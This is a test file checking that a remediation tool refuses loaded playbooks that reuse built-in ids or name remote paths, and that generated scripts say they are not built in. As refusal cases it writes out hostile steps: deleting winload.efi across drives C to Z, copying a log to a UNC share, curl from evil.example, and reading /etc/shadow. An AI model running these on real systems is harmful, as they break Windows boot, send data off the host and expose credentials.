// A loaded playbook can neither shadow a built-in nor name a remote place, and every file made from it says it is not built in.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { BUILTIN_PLAYBOOKS } from '../../../../core/remediation/builtin.js';
import { bundleExtras } from '../../../../core/remediation/bundle.js';
import { remediationHandlers as h } from '../../../../core/remediation/handlers.js';
import { remotePathProblems } from '../../../../core/remediation/library.js';
import { parsePlaybook, type Playbook } from '../../../../core/remediation/schema.js';
import { main } from '../../../../electron/cli.js';
import { sampleFleet, workspace } from './helpers.js';

const BANNER = 'NOT A BUILT-IN PLAYBOOK';
type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- edited playbook JSON

/** The attack: channel 291 "version 2", deleting winload.efi and copying the log to a share. */
function attack(ws: Awaited<ReturnType<typeof workspace>>): Json {
  const p = JSON.parse(h.playbookFile(ws, 'cs-channel-291')) as Json;
  p.version = 2;
  p.routes[0].steps.splice(2, 0, {
    op: 'delete-files',
    dir: '\\Windows\\System32',
    pattern: 'winload.efi',
    drives: { from: 'C', to: 'Z' },
  });
  p.routes[0].steps.push({ op: 'run', label: 'ship the log', argv: ['copy', 'X:\\ringside.log', '\\\\host\\share\\'] });
  return p;
}

const counts = (ws: Awaited<ReturnType<typeof workspace>>) => ({
  playbooks: ws.db.value<number>('SELECT COUNT(*) FROM remediation_playbooks'),
  audit: ws.db.value<number>('SELECT COUNT(*) FROM audit'),
});

describe('built-in ids are reserved', () => {
  it('a file under a built-in id is refused, clearly; nothing is stored; the built-in still generates', async () => {
    const ws = await workspace();
    await sampleFleet(ws);
    const opts = {
      playbookId: 'cs-channel-291',
      route: 'winre-cmd',
      target: { site: 'LON', ring: 'Broad' },
      withKeys: false,
    };
    const before = await h.generateScripts(ws, opts);
    const was = counts(ws);
    await expect(h.loadPlaybook(ws, JSON.stringify(attack(ws)))).rejects.toThrow(
      "playbook id 'cs-channel-291' is reserved for a built-in playbook; a loaded playbook needs its own id",
    );
    expect(counts(ws)).toEqual(was);
    const after = await h.generateScripts(ws, opts);
    expect(after.files[0]!.content.replace(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, 'T')).toBe(
      before.files[0]!.content.replace(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, 'T'),
    );
    expect(after.files[0]!.content).not.toContain('winload');
    expect(after.files[0]!.content).not.toContain(BANNER);
    // An exported built-in loaded back unchanged is the built-in itself: accepted, nothing stored.
    const now = counts(ws);
    await expect(h.loadPlaybook(ws, h.playbookFile(ws, 'cs-channel-291'))).resolves.toMatchObject({ builtin: true });
    expect(counts(ws)).toEqual(now);
  });

  it('a row stored under a built-in id by an older version never shadows the built-in', async () => {
    const ws = await workspace();
    const p = attack(ws);
    p.routes[0].steps.pop();
    ws.db.run(
      "INSERT INTO remediation_playbooks(id, version, name, json, sha256, loaded_at, loaded_by) VALUES (?,?,?,?,'x',0,'old')",
      [p.id, 2, p.name, JSON.stringify(parsePlaybook(p).ok ? p : null)],
    );
    expect(h.playbooks(ws).find((x) => x.id === 'cs-channel-291')).toMatchObject({ version: 1, builtin: true });
  });
});

describe('remote paths in a loaded playbook', () => {
  const cases: [string, (p: Json) => void, string][] = [
    ['UNC share', (p) => p.routes[0].steps.push(run(['copy', 'a.log', '\\\\host\\share\\'])), 'argv[2]'],
    ['UNC via \\\\?\\UNC', (p) => p.routes[2].steps.push(run(['Get-ChildItem', '\\\\?\\UNC\\host\\share'])), 'argv[1]'],
    ['//host', (p) => p.routes[2].steps.push(run(['Copy-Item', 'a.log', '//host/share/'])), 'argv[2]'],
    ['http URL', (p) => p.routes[3].steps.push(run(['curl', '-o', '/tmp/x', 'http://evil.example/x'])), 'argv[3]'],
    ['file URL', (p) => p.routes[3].steps.push(run(['cat', 'file:///etc/shadow'])), 'argv[1]'],
    [
      'UNC made by concat',
      (p) =>
        p.routes[2].steps.push(run(['Copy-Item', 'a.log', { concat: ['\\\\', { device: 'hostname' }, '\\share'] }])),
      'argv[2]',
    ],
    [
      'in a manual step',
      (p) => p.routes[0].steps.push({ op: 'manual', text: 'Copy the log to \\\\fs01\\logs' }),
      'text',
    ],
    ['in a parameter default', (p) => (p.params[0].default = 'https://evil.example/i'), 'params[0].default'],
  ];
  function run(argv: unknown[]): Json {
    return { op: 'run', label: 'x', argv };
  }

  it.each(cases)('%s: refused with the field named; nothing stored', async (_n, edit, field) => {
    const ws = await workspace();
    const p = JSON.parse(h.playbookFile(ws, 'cs-channel-291')) as Json;
    p.id = 'cs-channel-291-site';
    edit(p);
    const was = counts(ws);
    const err = await h.loadPlaybook(ws, JSON.stringify(p)).then(
      () => null,
      (e: Error) => e.message,
    );
    expect(err).toMatch(/^playbook file refused, remote paths in literals:\n/);
    expect(err).toContain(field);
    expect(err).toMatch(/is not allowed in a loaded playbook/);
    expect(counts(ws)).toEqual(was);
  });

  it('local paths, \\\\?\\C: and the Graph API URL the built-ins call are allowed', () => {
    for (const b of BUILTIN_PLAYBOOKS) expect(remotePathProblems(b), b.id).toEqual([]);
    const p = parsePlaybook(JSON.parse(JSON.stringify(BUILTIN_PLAYBOOKS[0]))).ok;
    expect(p).toBe(true);
    const local = { ...(BUILTIN_PLAYBOOKS[0] as Playbook) };
    local.routes = [
      {
        ...local.routes[0]!,
        steps: [{ op: 'run', label: 'x', argv: ['dir', '\\\\?\\C:\\Windows', 'C:\\Windows\\Temp'] }],
      },
    ];
    expect(remotePathProblems(local)).toEqual([]);
  });
});

describe('files from a loaded playbook', () => {
  it('every route of a loaded copy of each built-in: each file opens with the banner in its shell, the manifest warns', async () => {
    const ws = await workspace();
    await sampleFleet(ws);
    let files = 0;
    for (const b of BUILTIN_PLAYBOOKS) {
      const p = JSON.parse(JSON.stringify(b)) as Json;
      p.id = `${b.id}-site`;
      const info = await h.loadPlaybook(ws, JSON.stringify(p));
      expect(info.builtin).toBe(false);
      for (const r of b.routes) {
        const target = b.id === 'cs-channel-291' ? { site: 'LON', ring: 'Broad' } : { site: 'LON', states: [] };
        const bundle = await h.generateScripts(ws, { playbookId: p.id, route: r.id, target, withKeys: true });
        const banner = `${BANNER}: ${p.id} version ${b.version} was loaded from a file into this workspace.`;
        const first = { cmd: `rem ${banner}`, powershell: `# ${banner}`, bash: `# ${banner}`, runsheet: banner }[
          r.shell
        ];
        for (const f of bundle.files) {
          const lines = f.content.split(/\r?\n/);
          // The first line, or the one after a shebang.
          expect(
            lines.slice(0, 2).some((l) => l.includes(first)),
            `${f.path}: ${lines.slice(0, 2).join(' | ')}`,
          ).toBe(true);
          files++;
        }
        expect(bundle.manifest.what.builtin).toBe(false);
        expect(bundle.manifest.warnings[0]).toContain(banner);
        for (const x of bundleExtras(bundle)) if (x.path === 'KEYS-ROTATE.txt') expect(x.content).toContain(banner);
      }
    }
    expect(files).toBeGreaterThanOrEqual(14);
  });
});

describe('the CLI says so', () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'ringside-pb-'));
  const prevHome = process.env.RINGSIDE_HOME;
  process.env.RINGSIDE_HOME = path.join(dir, 'home');
  afterAll(() => {
    process.env.RINGSIDE_HOME = prevHome;
    rmSync(dir, { recursive: true, force: true });
  });
  const cli = async (...argv: string[]) => {
    let out = '';
    const code = await main(argv, { out: (t) => (out += `${t}\n`), err: (t) => (out += `${t}\n`) });
    return { code, out };
  };

  it('playbooks --load refuses the attack, loads an own id saying it is not built-in, scripts warns', async () => {
    const wsFile = path.join(dir, 'w.ringside');
    expect((await cli('sample', wsFile, '--devices', '300', '--seed', '3')).code).toBe(0);
    const ws = await workspace();
    writeFileSync(path.join(dir, 'attack.json'), JSON.stringify(attack(ws)));
    const refused = await cli('playbooks', wsFile, '--load', path.join(dir, 'attack.json'));
    expect(refused.code).toBe(1);
    expect(refused.out).toContain("playbook id 'cs-channel-291' is reserved for a built-in playbook");
    const own = JSON.parse(h.playbookFile(ws, 'cs-channel-291')) as Json;
    own.id = 'cs-291-site';
    writeFileSync(path.join(dir, 'own.json'), JSON.stringify(own));
    const loaded = await cli('playbooks', wsFile, '--load', path.join(dir, 'own.json'));
    expect(loaded.out).toContain('loaded cs-291-site version 1: not a built-in playbook');
    expect((await cli('playbooks', wsFile)).out).toMatch(/cs-291-site {2}v1 .*\(loaded: not a built-in playbook\)/);
    const out = path.join(dir, 'out');
    const s = await cli('scripts', wsFile, '--playbook', 'cs-291-site', '--route', 'runsheet', '--out', out);
    expect(s.out.split('\n')[0]).toBe(
      `${BANNER}: cs-291-site version 1 was loaded from a file into this workspace. Check every step before running.`,
    );
    expect(readFileSync(path.join(out, 'manifest.json'), 'utf8')).toContain(BANNER);
    ws.db.close();
  });
});
